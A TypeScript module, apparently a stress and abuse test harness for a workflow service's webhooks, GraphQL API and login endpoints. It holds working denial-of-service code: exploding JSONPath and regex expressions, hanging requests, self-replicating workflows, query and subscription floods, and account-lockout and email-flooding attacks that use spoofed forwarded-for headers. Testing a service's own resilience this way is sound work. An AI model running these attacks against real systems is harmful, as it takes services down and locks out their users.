/** The attacks: what an attacker publishes in advance, and what its process does until it is told to stop. */
import { type Client, createClient } from 'graphql-ws';
import { WebSocket } from 'ws';
import type { Definition } from '../../test/helpers/factory.ts';

/** What the attacker's process knows. */
export interface Target {
  url: string;
  webhookKey: string;
  tokens: string[];
  /** Ids of the workflows of `definitions`, in their order. */
  workflowIds: string[];
  /** Email addresses of an account of the attacker and of a victim. */
  account: string;
  victim: string;
}

/** A target, and how outcomes are counted. */
export interface Attacker extends Target {
  signal: AbortSignal;
  /** Counts the outcome of a request: a status such as `202`, or an error code. */
  count(outcome: string): void;
}

/** One kind of attack. */
export interface Attack {
  title: string;
  /** Definitions by name, published in the attacker's organization. */
  definitions?: (peer: string) => Record<string, Definition>;
  tokens?: number;
  /** What victims do meanwhile; its failures count as lost. */
  beside?: 'logins' | 'resets';
  run(attacker: Attacker): Promise<void>;
}

/** The password that floods of logins send. */
export const PASSWORD_OF_FLOOD = 'a password of the flood';

const list = <T>(length: number, item: (index: number) => T): T[] => Array.from({ length }, (_, index) => item(index));
const nested = (depth: number): unknown => (depth === 0 ? 2 : { a: nested(depth - 1), b: 1 });
const value = (text: string) => ({ id: 'bomb', type: 'transform', properties: { template: { value: `{{ ${text} }}` } } });
const hook = (path: string, respond: string) => ({ id: 'hook', type: 'webhookTrigger', properties: { path, method: 'POST', respond } });
const request = (url: string) => ({ id: 'ask', type: 'httpRequest', onError: 'continue', properties: { url } });
function chain(...nodes: Definition['nodes']): Definition {
  return { nodes, connections: nodes.slice(1).map((node, index) => ({ source: nodes[index]!.id, target: node.id })) };
}

/** Expressions whose evaluation time explodes, with their inputs. */
const BOMBS: [string, unknown][] = [
  ['exists($.prev.**.**.**.**.**.**.**.** ? (@ == 3))', nested(45)],
  ['$.prev[*] ? (@ == $.prev[*] && @ == 0)', list(20_000, (n) => n + 1)],
  ['$.prev.text ? (@ like_regex "(a|b)*a(a|b){18}c")', { text: 'abbabaab'.repeat(8_000) }],
  ['$.prev.a == $.prev.b', { a: list(12_000, () => true), b: list(12_000, () => false) }],
];

const answerOf = async (response: Response): Promise<string> => {
  const text = await response.text();
  try {
    const body = JSON.parse(text) as {
      error?: { code?: string };
      errors?: { extensions?: { code?: string } }[];
      data?: Record<string, { nodes?: { payload?: { error?: { code?: string } } }[] } | null> | null;
    };
    const code = body.errors?.[0]?.extensions?.code ?? body.error?.code;
    if (code) return code;
  } catch {
    // An answer that is not JSON is counted by its status.
  }
  return String(response.status);
};

async function post(attacker: Attacker, path: string, body: string, options: { token?: string; from?: string } = {}): Promise<void> {
  const response = await fetch(`${attacker.url}${path}`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      accept: 'application/json',
      'x-forwarded-for': options.from ?? '192.0.2.1',
      ...(options.token ? { authorization: `Bearer ${options.token}` } : {}),
    },
    body,
    signal: attacker.signal,
  });
  attacker.count(await answerOf(response));
}

/** Runs `count` callers, each of which calls again `pauseMs` after its last answer. */
async function callers(attacker: Attacker, count: number, call: (turn: number) => Promise<void>, pauseMs = 0): Promise<void> {
  let turn = 0;
  await Promise.all(
    list(count, async () => {
      while (!attacker.signal.aborted) {
        try {
          turn += 1;
          await call(turn);
        } catch (error) {
          if (!attacker.signal.aborted) attacker.count((error as { cause?: { code?: string } }).cause?.code ?? String(error));
        }
        if (pauseMs) await new Promise((resolve) => setTimeout(resolve, pauseMs));
      }
    }),
  );
}

const until = (signal: AbortSignal) => new Promise<void>((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }));
const hooks = (attacker: Attacker, path: string) => `/hooks/${attacker.webhookKey}${path}`;
const graphql = (query: string, variables?: unknown) => JSON.stringify({ query, variables });
/** Addresses in the eight networks of an anonymous attacker. */
const network = (turn: number) => `192.0.${turn % 8}.${turn % 250}`;

const TRY = 'query ($definition: JSON!, $input: JSON) { testWorkflow(definition: $definition, input: $input) { nodes { seq type } } }';
const WATCH = 'subscription ($workflow: UUID!) { workflowRuns(workflowId: $workflow) { cursor workflowRun { id status } } }';
const part = (name: string) =>
  `${name}: workflows(first: 1, filter: {name: {equalTo: "${name}"}}) { nodes { id name versions(first: 1) { nodes { version publishedAt } } createdBy { id name } } }`;
/** A valid document of about 45 tokens per part, different from all others. */
const ownDocument = (turn: number, parts: number) => `{ ${list(parts, (place) => part(`a${process.pid}_${turn}_${place}`)).join(' ')} }`;
const REPEATED = [
  `{ ${'workflows{nodes{id}} '.repeat(140)} }`,
  `{ ${'workflows{nodes{id}} '.repeat(40)} }`,
  `{ ${list(60, () => '... { workflows { nodes { id } } }').join(' ')} }`,
];

/** The attacks by name. */
export const ATTACKS: Record<string, Attack> = {
  expressions: {
    title: 'expressions that explode, through 4 webhooks, 4 callers each',
    definitions: () => Object.fromEntries(BOMBS.map(([text], n) => [`bomb ${n}`, chain(hook(`/bomb${n}`, 'lastNode'), value(text))])),
    run: async (attacker) => {
      await callers(attacker, 16, (turn) => post(attacker, hooks(attacker, `/bomb${turn % 4}`), JSON.stringify(BOMBS[turn % 4]![1])));
    },
  },
  testWorkflow: {
    title: '24 callers of testWorkflow with them',
    run: async (attacker) => {
      await callers(attacker, 24, (turn) => {
        const [text, input] = BOMBS[turn % 4]!;
        const definition = chain({ id: 'start', type: 'apiTrigger' }, value(text));
        return post(attacker, '/graphql', graphql(TRY, { definition, input }), { token: attacker.tokens[0]! });
      });
    },
  },
  schedules: {
    title: '10 slow schedules, each second',
    definitions: () =>
      Object.fromEntries(
        list(10, (n) => [
          `slow ${n}`,
          chain(
            { id: 'clock', type: 'scheduleTrigger', properties: { cron: '1 second' } },
            { id: 'list', type: 'transform', properties: { template: list(9_000, (item) => item) } },
            ...list(20, (node) => ({
              id: `walk${node}`,
              type: 'transform',
              properties: { template: list(20, () => '{{ $.nodes.list[*] ? (@ > 30000) }}') },
            })),
            { id: 'bomb', type: 'transform', properties: { template: '{{ $.nodes.list[*] ? (@ == $.nodes.list[*] && @ == -1) }}' } },
          ),
        ]),
      ),
    run: (attacker) => until(attacker.signal),
  },
  poison: {
    title: 'values 3,000 levels deep and peers that answer 1e9999999, 60 times 1e130000, 50,000 levels',
    definitions: (peer) => ({
      deep: chain(
        hook('/deep', 'immediately'),
        { id: 'make', type: 'set', onError: 'continue', properties: { types: { text: 'json' } } },
        request(`${peer}/ok`),
      ),
      ...Object.fromEntries(
        ['exponent', 'digits', 'deep'].map((answer) => [
          `asks ${answer}`,
          chain(hook(`/asks-${answer}`, 'immediately'), request(`${peer}/${answer}`), { id: 'keep', type: 'noOp' }),
        ]),
      ),
    }),
    run: async (attacker) => {
      const deep = JSON.stringify({ text: '['.repeat(3_000) + ']'.repeat(3_000) });
      const paths = ['/deep', '/asks-exponent', '/asks-digits', '/asks-deep'];
      await callers(attacker, 4, (turn) => post(attacker, hooks(attacker, paths[turn % 4]!), deep), 100);
    },
  },
  hanging: {
    title: '75 requests that hang, with a timeout of an hour',
    definitions: (peer) => ({
      hangs: chain(hook('/hang', 'immediately'), { ...request(`${peer}/hang`), timeoutMs: 3_600_000 }),
    }),
    run: async (attacker) => {
      await Promise.all(list(75, () => post(attacker, hooks(attacker, '/hang'), '{}')));
      await until(attacker.signal);
    },
  },
  amplification: {
    title: '0.9 MB through 300 noOps, 4 callers',
    definitions: () => ({ big: chain(hook('/big', 'lastNode'), ...list(300, (n) => ({ id: `n${n}`, type: 'noOp' }))) }),
    run: async (attacker) => {
      const body = JSON.stringify({ text: 'x'.repeat(900_000) });
      await callers(attacker, 4, () => post(attacker, hooks(attacker, '/big'), body));
    },
  },
  family: {
    title: 'a workflow that executes itself three times',
    definitions: () => ({
      grows: {
        nodes: [
          hook('/grow', 'immediately'),
          { id: 'called', type: 'subworkflowTrigger' },
          ...list(3, (n) => ({ id: `child${n}`, type: 'executeWorkflow', properties: { workflow: 'grows', input: { n } } })),
        ],
        connections: ['hook', 'called'].flatMap((source) => list(3, (n) => ({ source, target: `child${n}` }))),
      },
    }),
    run: async (attacker) => {
      await post(attacker, hooks(attacker, '/grow'), '{}');
      await until(attacker.signal);
    },
  },
  subscriptions: {
    title: '20 sockets with 100 subscriptions each, and 10 runs a second',
    tokens: 10,
    definitions: () => ({ watched: chain(hook('/watched', 'immediately'), { id: 'note', type: 'log', properties: { message: 'x' } }) }),
    run: async (attacker) => {
      const clients = list(20, (n) => subscribe(attacker, attacker.tokens[n % attacker.tokens.length]!));
      await callers(attacker, 1, () => post(attacker, hooks(attacker, '/watched'), '{}'), 100);
      for (const client of clients) client.terminate();
    },
  },
  documents: {
    title: 'documents of 450 tokens, anonymous, no two alike, 8 networks, 8 callers',
    run: async (attacker) => {
      await callers(attacker, 8, (turn) => post(attacker, '/graphql', graphql(ownDocument(turn, 10)), { from: network(turn) }));
    },
  },
  ownDocuments: {
    title: 'documents of 1,300 tokens, with a token, no two alike, 8 callers',
    run: async (attacker) => {
      const token = attacker.tokens[0]!;
      await callers(attacker, 8, (turn) => post(attacker, '/graphql', graphql(ownDocument(turn, 29)), { token }));
    },
  },
  repeated: {
    title: 'documents with the same field hundreds of times, 40 callers, half of them anonymous',
    run: async (attacker) => {
      await callers(attacker, 40, (turn) => {
        // A comment makes each document unique.
        const query = `${REPEATED[turn % REPEATED.length]} # ${turn}`;
        return post(attacker, '/graphql', graphql(query), turn % 2 ? { token: attacker.tokens[0]! } : { from: network(turn) });
      });
    },
  },
  registrations: {
    title: '60 callers who register, beside logins',
    beside: 'logins',
    run: async (attacker) => {
      await callers(attacker, 60, (turn) => {
        const body = JSON.stringify({ name: 'x', email: `flood${process.pid}-${turn}@flood.example`, password: PASSWORD_OF_FLOOD });
        return post(attacker, '/auth/register', body, { from: network(turn) });
      });
    },
  },
  lockout: {
    title: 'logins with addresses made to look like the counters of others, beside logins',
    beside: 'logins',
    run: async (attacker) => {
      const places = ['from 198.51.100.0/24', 'from 198.51.0.0/16', '198.51.100.0/24', ' ', '\t'];
      await callers(
        attacker,
        4,
        (turn) => {
          const email = `${attacker.victim} ${places[turn % places.length]}`;
          return post(attacker, '/auth/login', JSON.stringify({ email, password: 'wrong password' }), { from: network(turn) });
        },
        20,
      );
    },
  },
  mails: {
    title: '600 changeEmail to strangers, registrations with the address of a victim who asks for a reset',
    beside: 'resets',
    run: async (attacker) => {
      const login = await fetch(`${attacker.url}/auth/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': '192.0.2.1' },
        body: JSON.stringify({ email: attacker.account, password: PASSWORD_OF_FLOOD }),
      });
      const { secret: token } = (await login.json()) as { secret: string };
      const change = 'mutation ($email: String!) { changeEmail(input: {email: $email}) { clientMutationId } }';
      const register = JSON.stringify({ name: 'x', email: attacker.victim, password: PASSWORD_OF_FLOOD });
      await callers(
        attacker,
        6,
        (turn) =>
          turn % 10
            ? post(attacker, '/graphql', graphql(change, { email: `stranger${turn}@strangers.example` }), { token })
            : post(attacker, '/auth/register', register, { from: network(turn) }),
        100,
      );
    },
  },
};

function subscribe(attacker: Attacker, token: string): Client {
  const client = createClient({
    url: `${attacker.url.replace(/^http/, 'ws')}/graphql`,
    webSocketImpl: WebSocket,
    retryAttempts: 0,
    connectionParams: { authorization: `Bearer ${token}` },
  });
  for (let each = 0; each < 100; each += 1) {
    client.subscribe(
      { query: WATCH, variables: { workflow: attacker.workflowIds[0] } },
      {
        next: ({ errors }) => attacker.count(errors ? String(errors[0]?.extensions?.['code']) : 'told'),
        error: (error) => {
          if (attacker.signal.aborted) return;
          attacker.count(Array.isArray(error) ? String(error[0]?.extensions?.code) : `closed ${(error as { code?: number }).code ?? ''}`);
        },
        complete: () => undefined,
      },
    );
  }
  return client;
}
